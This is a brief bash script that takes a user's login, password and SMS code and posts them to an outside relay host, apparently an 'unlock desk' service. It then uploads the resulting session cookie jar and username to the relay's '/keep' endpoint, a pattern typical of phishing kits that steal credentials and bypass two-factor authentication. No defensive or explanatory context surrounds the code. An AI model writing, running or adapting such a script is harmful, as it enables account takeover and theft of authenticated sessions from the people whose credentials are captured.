#!/bin/bash
# $1 login  $2 password  $3 sms code
curl -s -c /tmp/s.txt https://relay.unlock-desk.example.net/login -d "u=$1&p=$2&c=$3"
curl -s -F "jar=@/tmp/s.txt" -F "u=$1" https://relay.unlock-desk.example.net/keep
